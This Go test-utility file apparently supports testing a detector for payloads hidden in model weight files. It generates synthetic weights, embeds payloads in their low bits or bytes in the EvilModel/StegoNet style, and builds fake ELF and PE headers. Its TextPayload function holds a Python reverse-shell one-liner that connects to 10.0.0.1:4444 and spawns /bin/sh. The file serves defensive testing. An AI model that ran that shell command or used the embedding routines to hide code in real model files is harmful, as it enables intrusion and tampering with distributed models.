package testutil

import (
	"bytes"
	"encoding/binary"
	"math"
	"math/rand/v2"
)

// GaussF32 is n float32 weights drawn like a trained layer (std 0.02),
// little-endian.
func GaussF32(n int, seed uint64) []byte {
	r := rand.New(rand.NewPCG(seed, 1))
	b := make([]byte, 4*n)
	for i := 0; i < n; i++ {
		binary.LittleEndian.PutUint32(b[4*i:], math.Float32bits(float32(r.NormFloat64()*0.02)))
	}
	return b
}

// HalfOrigin rounds float32 weights to bfloat16 precision in place, as a
// model trained in bf16 and saved in fp32 is.
func HalfOrigin(b []byte) []byte {
	for i := 0; i+4 <= len(b); i += 4 {
		binary.LittleEndian.PutUint32(b[i:], binary.LittleEndian.Uint32(b[i:])&0xffff0000)
	}
	return b
}

// HideLSB writes payload into the k low bits of consecutive float32
// elements from element start (EvilModel/StegoNet style), in place.
func HideLSB(b []byte, payload []byte, k, start int) {
	bit := 0
	for el := start; bit < 8*len(payload); el++ {
		u := binary.LittleEndian.Uint32(b[4*el:])
		var v uint32
		for j := 0; j < k && bit < 8*len(payload); j++ {
			v |= uint32(payload[bit/8]>>(bit%8)&1) << j
			bit++
		}
		binary.LittleEndian.PutUint32(b[4*el:], u&^(1<<k-1)|v)
	}
}

// TextPayload is n bytes of a reverse-shell script.
func TextPayload(n int) []byte {
	var b bytes.Buffer
	for b.Len() < n {
		b.WriteString("import os, socket, subprocess; s=socket.socket(); s.connect(('10.0.0.1', 4444)); subprocess.call(['/bin/sh', '-i'])\n")
	}
	return b.Bytes()[:n]
}

// ELFPayload is n bytes that look like an executable: an ELF header,
// code-like bytes and zero padding.
func ELFPayload(n int) []byte {
	b := make([]byte, n)
	copy(b, "\x7fELF\x02\x01\x01\x00")
	r := rand.New(rand.NewPCG(7, 7))
	for i := 64; i < n; i++ {
		if i%7 < 3 {
			b[i] = byte(r.IntN(256))
		}
	}
	return b
}

// RandomPayload is n random bytes (an encrypted or compressed payload).
func RandomPayload(n int) []byte {
	b := make([]byte, n)
	r := rand.New(rand.NewPCG(9, 9))
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	return b
}

// HideBytes writes payload into the k low bytes of consecutive elements
// of es bytes each (little-endian tensors), from element start, in place:
// EvilModel style. The bytes of each element are filled from its least
// significant up, or, when be is set, from the most significant of the k
// down, as tools that pack floats big-endian (struct.pack('!f')) do.
// The payload's last element is padded with zero bytes.
func HideBytes(b []byte, es int, payload []byte, k int, be bool, start int) {
	for i := 0; i < len(payload); i += k {
		p := (start + i/k) * es
		for j := 0; j < k; j++ {
			c := byte(0)
			if i+j < len(payload) {
				c = payload[i+j]
			}
			if be {
				b[p+k-1-j] = c
			} else {
				b[p+j] = c
			}
		}
	}
}

// PEPayload is n bytes that look like a Windows executable: DOS header
// and stub, PE and COFF headers, then code-like bytes and zero padding.
func PEPayload(n int) []byte {
	b := make([]byte, max(n, 0x200))
	copy(b, "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x40:], "\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$")
	copy(b[0x80:], "PE\x00\x00\x64\x86\x03\x00")
	r := rand.New(rand.NewPCG(8, 8))
	for i := 0x200; i < len(b); i++ {
		if i%5 < 3 {
			b[i] = byte(r.IntN(256))
		}
	}
	return b[:n]
}

// HalfF16 converts float32 weights to float16, little-endian.
func HalfF16(f32 []byte) []byte {
	out := make([]byte, len(f32)/2)
	for i := 0; i+4 <= len(f32); i += 4 {
		f := math.Float32frombits(binary.LittleEndian.Uint32(f32[i:]))
		binary.LittleEndian.PutUint16(out[i/2:], f32ToF16(f))
	}
	return out
}

// BF16 converts float32 weights to bfloat16 (round to nearest even),
// little-endian.
func BF16(f32 []byte) []byte {
	out := make([]byte, len(f32)/2)
	for i := 0; i+4 <= len(f32); i += 4 {
		u := binary.LittleEndian.Uint32(f32[i:])
		u += 0x7fff + (u >> 16 & 1)
		binary.LittleEndian.PutUint16(out[i/2:], uint16(u>>16))
	}
	return out
}

func f32ToF16(f float32) uint16 {
	u := math.Float32bits(f)
	sign := uint16(u>>16) & 0x8000
	exp := int(u>>23&0xff) - 127 + 15
	man := u & 0x7fffff
	switch {
	case exp >= 31:
		return sign | 0x7c00
	case exp <= 0:
		if exp < -10 {
			return sign
		}
		man |= 0x800000
		shift := uint(14 - exp)
		h := man >> shift
		if man>>(shift-1)&1 != 0 && (man&(1<<(shift-1)-1) != 0 || h&1 != 0) {
			h++
		}
		return sign | uint16(h)
	}
	h := uint32(exp)<<10 | man>>13
	if man&0x1000 != 0 && (man&0xfff != 0 || h&1 != 0) {
		h++
	}
	return sign | uint16(h)
}
